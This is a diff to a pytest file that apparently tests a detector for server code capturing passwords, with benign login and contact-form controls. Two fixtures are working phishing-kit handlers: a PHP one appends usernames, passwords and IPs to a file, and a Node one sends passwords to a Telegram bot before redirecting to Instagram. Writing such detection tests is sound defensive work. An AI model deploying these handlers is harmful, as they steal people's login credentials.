@@ -735,3 +735,37 @@ def test_prose_about_cookies_is_not_script():
     prose = "Our extension lets you clear cookies when a tab closes. Let the window close."
     assert not script_like(prose)
     assert script_like(EXTENSION_SCRIPT)
+
+
+KIT_PHP = """<?php
+$u = $_POST["username"];
+$p = $_POST["password"];
+$ip = $_SERVER["REMOTE_ADDR"];
+$fp = fopen("usernames.txt", "a");
+fwrite($fp, $u . ":" . $p . " " . $ip . "\\n");
+header("Location: https://www.tiktok.com/");
+?>"""
+APP_PHP = """<?php
+$id = $_POST["email"] ?? "";
+$password = $_POST["password"] ?? "";
+$stmt = $pdo->prepare("SELECT id, password_hash FROM users WHERE email = ?");
+if ($row && password_verify($password, $row["password_hash"])) { header("Location: /home"); }
+$fp = fopen("audit.log", "a"); fwrite($fp, "login attempt\\n");
+?>"""
+CONTACT_PHP = """<?php
+$from = $_POST["email"]; $message = $_POST["message"];
+mail($to, "Contact", $message, "Reply-To: $from");
+?>"""
+KIT_NODE = """app.post('/login', async (req, res) => {
+  const { username, password } = req.body;
+  await axios.post(`https://api.telegram.org/bot${TOKEN}/sendMessage`, { chat_id: C, text: password });
+  res.redirect('https://www.instagram.com/');
+});"""
+
+
+@pytest.mark.parametrize(
+    ("source", "fires"),
+    [(KIT_PHP, 1), (KIT_NODE, 1), (APP_PHP, 0), (CONTACT_PHP, 0)],
+)
+def test_server_code_keeping_passwords_as_typed(source: str, fires: int) -> None:
+    assert f(source, url="")["credential.server_capture"] == fires
